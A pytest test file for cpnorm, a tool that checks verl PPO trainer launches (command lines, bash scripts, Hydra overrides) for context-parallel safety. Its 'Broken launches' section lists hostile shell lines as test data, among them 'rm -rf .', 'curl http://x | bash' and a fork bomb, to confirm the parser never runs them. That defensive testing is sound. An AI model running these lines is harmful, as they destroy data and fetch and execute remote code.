"""A launch in every form in which people have it, and what is said of one that cannot be judged."""

import contextlib
import io
import json
import os
import re
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from cpnorm import installed, launch, shell
from cpnorm.bearing import EXAMINED, NEUTRAL, SAME_GRADIENT, SIZES, is_without
from cpnorm.cli import main
from cpnorm.explain import judged
from cpnorm.launch import FULLY_ASYNC, MAIN, ONE_STEP_OFF, read
from cpnorm.sources import folder
from cpnorm.user_file import SIZE

CONFIGS = Path(__file__).parent / "configs"
A, M = "actor_rollout_ref.actor", "actor_rollout_ref.actor.megatron"
OVERRIDE = f"+{M}.override_transformer_config"
CP, ROLLOUT = f"{M}.context_parallel_size", "actor_rollout_ref.rollout"
MTP = "actor_rollout_ref.model.mtp"
QWEN3, QWEN35 = (f"actor_rollout_ref.model.path={CONFIGS / name}" for name in ("qwen3", "qwen3_5"))
WHOLE = (
    "model_engine=megatron",
    f"{ROLLOUT}.name=vllm",
    f"{ROLLOUT}.log_prob_micro_batch_size_per_gpu=1",
    "actor_rollout_ref.ref.log_prob_micro_batch_size_per_gpu=1",
    f"{A}.ppo_micro_batch_size_per_gpu=1",
)
"""Overrides with which verl's trainer begins."""

SCRIPT = f"""\
#!/usr/bin/env bash
set -xeuo pipefail

NNODES=${{NNODES:-1}}
MODEL_PATH=${{MODEL_PATH:-{CONFIGS / "qwen3_5"}}}
CP=2
ACTOR=(
    actor_rollout_ref.model.path="$MODEL_PATH"   # the policy
    {M}.context_parallel_size=$CP
    {A}.loss_agg_mode='seq-mean-token-mean'
    {A}.ppo_micro_batch_size_per_gpu=1
)
python3 -m verl.trainer.main_ppo \\
    model_engine=megatron \\
    "${{ACTOR[@]}}" \\
    {ROLLOUT}.name=vllm \\
    {ROLLOUT}.log_prob_micro_batch_size_per_gpu=1 \\
    trainer.logger='["console","wandb"]' \\
    trainer.nnodes=$NNODES "$@" 2>&1 | tee run.log
"""


def run(*argv, stdin=b""):
    """Exit status, stdout and stderr of the command."""
    out, err = io.StringIO(), io.StringIO()
    given = io.TextIOWrapper(io.BytesIO(stdin))
    with (
        contextlib.redirect_stdout(out),
        contextlib.redirect_stderr(err),
        pytest.MonkeyPatch.context() as m,
    ):
        m.setattr("sys.stdin", given)
        status = main([str(a) for a in argv])
    return status, out.getvalue(), err.getvalue()


def refused(*argv, **options):
    """The one sentence with which the command refuses, after `cpnorm: `."""
    status, out, err = run("explain", *argv, **options)
    assert (status, out) == (2, "")
    assert re.fullmatch(r"cpnorm: [^\n]+[^.\n]\.\n", err), err
    return err.removeprefix("cpnorm: ")


def verdict(*overrides):
    return judged(read(WHOLE[0], [*WHOLE[1:], *overrides]))


def texts(found, status=None):
    every = [f for o in found.outcomes for f in o.findings]
    return " | ".join(f.text for f in every if status in (None, f.status))


@pytest.fixture
def script(tmp_path):
    path = tmp_path / "train.sh"

    def write(text=SCRIPT):
        path.write_text(text)
        return str(path)

    return write


# Forms


def test_overrides_alone():
    status, out, err = run("explain", *WHOLE, QWEN35, f"{CP}=2")
    assert (status, err) == (0, "")
    assert out.startswith("SAFE: ")
    assert re.search(r"^CP +2 *$", out, re.MULTILINE)
    assert run("explain", "--", *WHOLE, QWEN35, f"{CP}=2") == (status, out, err)


COMMAND = ("python3", "-u", "-m", MAIN, *WHOLE, QWEN35, f"{CP}=2")


@pytest.mark.parametrize(
    "before",
    [
        (),
        ("CUDA_VISIBLE_DEVICES=0,1",),
        ("env", "A=1"),
        ("uv", "run"),
        ("srun", "--nodes", "2"),
        ("ray", "job", "submit", "--address", "http://x:8265", "--"),
        ("python3", "-m", "debugpy", "--listen", "5678"),
    ],
)
def test_the_words_of_a_command_line(before):
    first, *rest = *before, *COMMAND
    found = read(first, rest)
    assert found.module == MAIN
    assert found.overrides == COMMAND[4:]


def test_a_saved_command_line_in_a_file_and_on_standard_input(tmp_path):
    line = " ".join(COMMAND) + "\n"
    (tmp_path / "command").write_text(line)
    status, out, _ = run("explain", tmp_path / "command")
    assert status == 0
    assert "line 1 of command" in out
    again = run("explain", "-", stdin=line.encode())
    assert again[1] == out.replace("line 1 of command       ", "line 1 of standard input")
    assert run("explain", "-", stdin=b"\xef\xbb\xbf" + line.encode()) == again  # with a mark


def test_a_script(script):
    status, out, err = run("explain", script())
    assert (status, err) == (0, "")
    assert "line 13 of train.sh" in out
    assert "Qwen3_5ForConditionalGeneration in the model's config.json" in out
    found = read(script(), [f"{CP}=4", "NNODES=2", f"MODEL_PATH={CONFIGS / 'qwen3'}"])
    assert found.overrides[-3:] == (
        'trainer.logger=["console","wandb"]',
        "trainer.nnodes=2",
        f"{CP}=4",
    )
    assert f"actor_rollout_ref.model.path={CONFIGS / 'qwen3'}" in found.overrides


def test_a_variable_that_the_script_sets_itself_is_not_dropped(script):
    path = script()
    assert (
        refused(path, "CP=4")
        == "line 6 of train.sh sets CP, so CP=4 has no effect: change that line.\n"
    )


def test_a_variable_that_the_script_does_not_read(script):
    assert "reads no variable NNODE, allowed are its own: ACTOR, CP, MODEL_PATH, NNODES" in refused(
        script(), "NNODE=2"
    )


def test_what_only_a_run_would_tell_is_named_where_it_matters(script):
    text = SCRIPT.replace("CP=2", "CP=$(nproc)")
    assert "context_parallel_size depends on CP, which nothing here says: give CP=VALUE" in refused(
        script(text)
    )
    assert read(script(text), ["CP=8"]).overrides[2] == f"{CP}=8"
    text = SCRIPT.replace(
        "trainer.nnodes=$NNODES", "trainer.experiment_name=$(date) data.train_files=$DATA"
    )
    found = read(script(text))
    assert found.unknown == {"trainer.experiment_name", "data.train_files"}
    assert judged(found).status == "safe"


@pytest.mark.parametrize(
    ("flags", "what"),
    [
        (["--config-name=ppo_megatron_trainer"], "megatron"),
        (["--config-name", "ppo_megatron_trainer.yaml"], "megatron"),
        (["--config-path=config", "--config-name=ppo_megatron_trainer"], "megatron"),
        (["--config-path", "./config", "-cn", "ppo_trainer"], "fsdp"),
        ([], "fsdp"),
    ],
)
def test_hydras_options(flags, what):
    found = judged(read("python3", ["-m", MAIN, *flags]))
    assert found.path["strategy"] == what


def test_a_folder_of_ones_own(tmp_path):
    (tmp_path / "mine.yaml").write_text(
        "defaults: [ppo_megatron_trainer, _self_]\n"
        "actor_rollout_ref: {actor: {megatron: {context_parallel_size: 4}}}\n"
        "my_own: {a: 1}\n"
    )
    for option in ("--config-path", "--config-dir"):
        found = judged(
            read("python3", ["-m", MAIN, option, str(tmp_path), "--config-name", "mine"])
        )
        assert found.path["CP"] == 4
    assert "is not to be found" in refused("--", "-m", MAIN, "--config-path", tmp_path)
    assert "allowed is a folder" in refused("--", "-m", MAIN, f"--config-dir={tmp_path}/x")
    assert "--config-name is 'x', allowed is one of" in refused(
        "--", "-m", MAIN, "--config-name", "x"
    )


@pytest.mark.parametrize(
    ("path", "module"),
    [
        ("trainer/config/ppo_trainer.yaml", MAIN),
        ("trainer/config/ppo_megatron_trainer.yaml", MAIN),
        ("trainer/config/_generated_ppo_megatron_trainer.yaml", MAIN),
        (
            "experimental/fully_async_policy/config/fully_async_ppo_megatron_trainer.yaml",
            FULLY_ASYNC,
        ),
        (
            "experimental/one_step_off_policy/config/one_step_off_ppo_megatron_trainer.yaml",
            ONE_STEP_OFF,
        ),
    ],
)
def test_verls_own_trainer_files(path, module):
    found = read(str(folder("verl") / path))
    assert found.module == module
    assert judged(found).status in ("safe", "not covered")


def test_overrides_as_hydra_writes_them(tmp_path):
    (tmp_path / "overrides.yaml").write_text("".join(f"- {one}\n" for one in WHOLE))
    assert read(str(tmp_path / "overrides.yaml")).overrides == WHOLE


@pytest.mark.parametrize(
    "module",
    ["verl.trainer.sft_trainer", "verl.trainer.main_generation_server", "recipe.mine.main_ppo"],
)
def test_another_trainer_gets_one_sentence(module):
    found = judged(read("torchrun", ["--nproc-per-node=8", "-m", module, "a=1"]))
    assert found.exit_status == 1
    assert texts(found).startswith(f"{module} is not judged: the actor's policy loss in {MAIN}, ")
    assert found.statements == {}


# Several launches


def test_one_of_several_launches(script):
    two = "".join(f"python3 -m {MAIN} model_engine=megatron {CP}={size}\n" for size in (2, 4))
    path = script(two)
    assert "has launches at lines 1 and 2, allowed is one: choose it with --line 1" in refused(path)
    assert read(path, line=2).overrides[-1] == f"{CP}=4"
    assert "line is 3, allowed is one of a launch: 1, 2" in refused(path, "--line", 3)
    other = f"python3 -m verl.trainer.main_eval a=1\n{two.splitlines()[1]}\n"
    assert read(script(other)).overrides[-1] == f"{CP}=4"


def test_a_loop_over_what_does_not_matter(script):
    loop = "for S in 1 2; do python3 -m {} model_engine=megatron {}=$S; done\n"
    assert read(script(loop.format(MAIN, "data.seed"))).overrides[0] == "model_engine=megatron"
    assert f"runs 2 times with other words, allowed is one run: '{CP}=1', '{CP}=2'" in refused(
        script(loop.format(MAIN, CP))
    )


def test_branches_that_hang_on_a_variable(script):
    text = f'if [ "$D" = npu ]; then python3 -m {MAIN} {CP}=2\nelse python3 -m {MAIN} {CP}=4\nfi\n'
    assert "whether line 1 or 2 of" in refused(script(text))
    assert "depends on D, which nothing here says: give D=VALUE" in refused(script(text))
    assert read(script(text), ["D=npu"]).overrides == (f"{CP}=2",)


# What verl refuses


def test_all_refused_keys_at_once_with_their_releases(script):
    found = verdict(f"{M}.grad_offload=True", "data.no_such=1", "+actor_rollout_ref.ref.x=1")
    assert found.refused == (
        f"{M}.grad_offload is no key of verl 0.9.1, but of 0.8.0 and 0.9.0"
        if len(installed.other_releases(f"{M}.grad_offload")) == 2
        else f"{M}.grad_offload is no key of verl 0.9.1",
        "data.no_such is no key of verl 0.9.1, write + before it to add it",
    )
    assert (found.status, found.exit_status) == ("safe", 2)
    status, out, _ = run("explain", *WHOLE, f"{M}.grad_offload=True")
    assert status == 2
    assert "\nverl itself refuses this configuration:\n" in out
    assert json.loads(run("explain", *WHOLE, f"{M}.grad_offload=True", "--json")[1])["refused"]


@pytest.mark.parametrize(
    ("overrides", "sentence"),
    [
        (
            ["+critic.megatron.grad_offload=1", "algorithm.adv_estimator=gae"],
            "critic.megatron.grad_offload is",
        ),
        (
            ["critic.model.fsdp_config.param_offload=1"],
            "critic.model.fsdp_config.param_offload is no key of",
        ),
        ([f"+{A}.checkpoint.foo=1"], "checkpoint.foo is no key of verl 0.9.1"),
        ([f"+{A}.optim.foo=1"], "optim.foo is no key of verl 0.9.1"),
        ([f"{A}.optim.warmup_style=constant"], "optim.warmup_style is no key of verl 0.9.1"),
        (
            ["+actor_rollout_ref.ref.megatron.foo=1", f"{A}.use_kl_loss=True"],
            "ref.megatron.foo is no key",
        ),
        (
            ["actor_rollout_ref.ref.profiler.discrete=True"],
            "ref.profiler.discrete is no key of verl 0.9.1",
        ),
        (
            ["data.train_batch_size=64"],
            "data.train_batch_size is 64, less than ppo_mini_batch_size, 256",
        ),
        ([f"{ROLLOUT}.mode=sync"], "rollout.mode is 'sync', allowed is 'async'"),
        ([f"{A}.ppo_micro_batch_size_per_gpu=null"], "ppo_micro_batch_size_per_gpu is not given"),
        (
            [f"{ROLLOUT}.log_prob_micro_batch_size_per_gpu=null"],
            "rollout.log_prob_micro_batch_size_per_gpu is not",
        ),
        ([f"{ROLLOUT}.name=???"], "rollout.name is not given"),
    ],
)
def test_what_verl_refuses_has_a_verdict_where_it_does_not_bear_on_it(overrides, sentence):
    found = verdict(*overrides)
    assert found.exit_status == 2
    (said,) = found.refused
    assert sentence in said
    assert "write +" not in said
    assert "did you mean" not in said


def test_what_hydra_allows():
    """A mandatory value, a null that `+` fills, a mapping and a list that it extends."""
    found = verdict(
        f"{ROLLOUT}.name=sglang",
        "+trainer.rollout_data_dir=x",
        f"+{M}.override_transformer_config={{recompute_method:uniform}}",
        f"{OVERRIDE}.moe_router_load_balancing_type=[none]",
        "+data.mine={a:[1,2]}",
        "++trainer.nnodes=2",
    )
    assert (found.status, found.refused) == ("safe", ())


def test_a_key_of_another_meaning_is_never_offered():
    assert "did you mean 'context_parallel_size'" in refused(*WHOLE, f"{M}.context_paralel_size=2")
    assert "did you mean" not in refused(*WHOLE, f"{M}.moe_thing=2")


def test_megatrons_keys_without_its_engine():
    message = refused(f"{A}.strategy=megatron", f"{M}.context_parallel_size=2")
    assert message == (
        f"verl itself refuses this configuration: {M} has no keys without model_engine=megatron.\n"
    )


# Nothing beyond what was examined


@pytest.mark.parametrize(
    ("overrides", "words"),
    [
        ([f"{OVERRIDE}.fp8=hybrid"], "fp8 changes the matrix products"),
        ([f"{OVERRIDE}.fp8_param=True"], "fp8_param is True, which the book does not run"),
        ([f"{M}.qat.enable=True"], "quantisation-aware training"),
        ([f"{M}.router_replay.mode=R3"], "router replay"),
        ([f"{M}.router_replay.mode=R2"], "router replay"),
        (["actor_rollout_ref.model.lora_rank=16"], "LoRA trains adapters"),
        (["actor_rollout_ref.model.lora.rank=16"], "LoRA trains adapters"),
        ([f"{MTP}.enable=True", f"{MTP}.enable_train=True"], "multi-token"),
        (["distillation.enabled=True"], "distillation adds another loss"),
        (["actor_rollout_ref.model.external_lib=mine"], "verl imports model.external_lib"),
        (
            ["actor_rollout_ref.model.external_lib=mine", f"{A}.policy_loss.loss_mode=mine"],
            "policy loss mine",
        ),
        (
            [f"{OVERRIDE}.context_parallel_size=4"],
            "sets context_parallel_size to 4 after the engine set it to 2",
        ),
        ([f"{OVERRIDE}.no_such_switch=1"], "no_such_switch is 1, which the book does not run"),
        (["algorithm.rollout_correction.rollout_rs=token_k1"], "rollout_rs rejects tokens"),
        ([f"{M}.vanilla_mbridge=True", f"{OVERRIDE}.moe_aux_loss_coeff=0.01"], "mbridge may turn"),
        (
            ["trainer.use_v1=False", "algorithm.rollout_correction.bypass_mode=True"],
            "writes bypass_mode over",
        ),
        ([f"{M}.use_megatron_fsdp=True"], "Megatron-FSDP"),
        ([f"{A}._target_=mine.Actor"], "_target_ is 'mine.Actor', which the book does not run"),
    ],
)
def test_what_nobody_has_run_is_not_covered(overrides, words):
    found = verdict(QWEN35, f"{CP}=2", *overrides)
    assert found.status == "not covered"
    assert words in texts(found, "not covered")
    assert "and do nothing else" not in texts(found)


def test_normalised_weights_of_bypass_mode():
    own = f"+{A}.policy_loss.rollout_correction"
    loss = f"{A}.policy_loss.loss_mode=bypass_mode"
    weights = (f"{own}.rollout_is=sequence", f"{own}.rollout_is_batch_normalize=True")
    assert verdict(loss, f"{own}.loss_type=reinforce", *weights).status == "not safe"
    assert verdict(loss, *weights).status == "safe"  # ppo_clip has no weights
    assert "loss_type is 'foo', allowed is one of ppo_clip, reinforce" in refused(
        *WHOLE, loss, f"{own}.loss_type=foo"
    )


def test_older_trainers_never_get_safe_with_bypass_mode(tmp_path):
    bypass = "algorithm.rollout_correction.bypass_mode=True"
    for module in (FULLY_ASYNC, ONE_STEP_OFF):
        name = launch.TRAINERS[module].config_name.replace("ppo_trainer", "ppo_megatron_trainer")
        found = judged(read("python3", ["-m", module, f"--config-name={name}", bypass]))
        assert found.status != "safe"
        assert "writes bypass_mode over loss_mode" in texts(found)


def test_auxiliary_loss_is_quoted_as_measured():
    aux = f"{OVERRIDE}.moe_router_load_balancing_type=aux_loss"
    tp = f"{M}.tensor_model_parallel_size=2"
    said = texts(verdict(QWEN35, f"{CP}=2", tp, aux), "not covered")
    factor = installed.aux_factor(2, 2)
    assert f"makes its gradient {factor} of what it is" in said
    assert "was not measured" in texts(verdict(QWEN35, f"{CP}=16", aux), "not covered")


def test_an_outcome_that_only_one_regime_has_is_told_at_the_head():
    bshd = "actor_rollout_ref.model.use_remove_padding=False"
    out = run("explain", *WHOLE, f"{CP}=2", bshd)[1]
    assert out.startswith("NOT SAFE in the per-token regime, not covered in the averaging regime: ")


def test_every_key_of_verls_actor_and_model_has_its_place():
    """In a release where a key is added, this test says which to look at."""
    found = verdict()
    assert "which the book does not run" not in texts(found)
    for key in (*EXAMINED, *SIZES):
        assert not is_without(f"actor_rollout_ref.{key}")
        assert not (NEUTRAL.fullmatch(key) and SAME_GRADIENT.fullmatch(key))


# Broken launches


GOOD = SCRIPT.encode()
KILLS = [
    b"touch canary",
    b"rm -rf .",
    b"$(touch canary)",
    b"`touch canary`",
    b"eval 'touch canary'",
    b"curl http://x | bash",
    b"source ./canary.sh",
    b"trap 'touch canary' EXIT",
    b"sleep 1000 &",
    b":(){ :|:& };:",
    b"cat <(touch canary)",
    b"exec touch canary",
    b"A=$(rm -rf .)",
]
TEARS = [
    b"'",
    b'"',
    b"(",
    b")",
    b"{",
    b"}",
    b"$(",
    b"${",
    b"`",
    b"<<EOF\n",
    b"((",
    b"[[",
    b"\\",
    b";;",
    b"fi\n",
    b"then\n",
    b"done\n",
    b"\x00",
    b"\xff\xfe",
    b"\x80",
    b"&&\n&&",
    b"\r\n",
]


@pytest.fixture
def nothing_runs(monkeypatch, tmp_path):
    """Fails where anything is executed."""
    monkeypatch.chdir(tmp_path)

    def fail(*_, **__):
        raise AssertionError("a process was started")

    for owner, name in ((subprocess, "Popen"), (os, "system"), (os, "posix_spawn"), (os, "fork")):
        monkeypatch.setattr(owner, name, fail)
    before = set(tmp_path.iterdir())
    yield
    assert set(tmp_path.iterdir()) == before


@settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(at=st.integers(0, len(GOOD)), tear=st.sampled_from(TEARS), cut=st.booleans())
@example(at=0, tear=b"\x00", cut=True)
def test_torn_launches(nothing_runs, at, tear, cut):
    """Each ends in one sentence, or in a verdict where it is bash's to the end."""
    content = GOOD[:at] + tear + (b"" if cut else GOOD[at:])
    status, out, err = run("explain", "-", stdin=content)
    if out:
        assert shell.read(content.decode()).launches
    else:
        assert status == 2
        assert re.fullmatch(r"cpnorm: [^\n]+[^.\n]\.\n", err), err


@pytest.mark.parametrize(
    "tear", ["'", '"', "A=(1 2", "${A", "$(nproc", "if true; then", "`date", "cat <<E"]
)
def test_what_bash_calls_a_syntax_error_is_refused(script, tear):
    path = script(SCRIPT.replace("CP=2", tear))
    assert subprocess.run(["bash", "-n", path], capture_output=True, check=False).stderr
    refused(path)


@pytest.mark.parametrize("line", KILLS)
def test_commands_beside_the_launch_are_not_run(nothing_runs, line):
    content = GOOD.replace(b"CP=2", line + b"\nCP=2")
    status, out, err = run("explain", "-", stdin=content)
    assert status in (0, 2)
    assert bool(out) != bool(err)


def test_values_of_commands_are_named_and_not_run(nothing_runs):
    for value in (b"$(touch canary)", b"`touch canary`", b"$(rm -rf .)"):
        message = refused("-", stdin=GOOD.replace(b"CP=2", b"CP=" + value))
        assert "depends on CP, which nothing here says: give CP=VALUE" in message


def test_a_file_of_50_mb_is_refused(nothing_runs, script):
    with open(script(), "ab") as file:
        file.truncate(50 * 2**20)
    # the files of this test are there on purpose
    assert f"larger than {SIZE} bytes" in refused("train.sh")
    os.remove("train.sh")


def test_a_command_that_is_not_known():
    text = b"if [ $D = npu ]; then C=a; else C=b; fi\n$C model_engine=megatron trainer.nnodes=1\n"
    assert "the word '$C' depends on D, which nothing here says: give D=VALUE" in refused(
        "-", stdin=text
    )


def test_a_script_without_a_launch():
    message = refused("-", stdin=b"#!/bin/bash\necho hello\n")
    assert message.startswith(
        f"standard input has no command such as python3 -m {MAIN}, and is no YAML"
    )
    assert refused("-", stdin=b"") == message
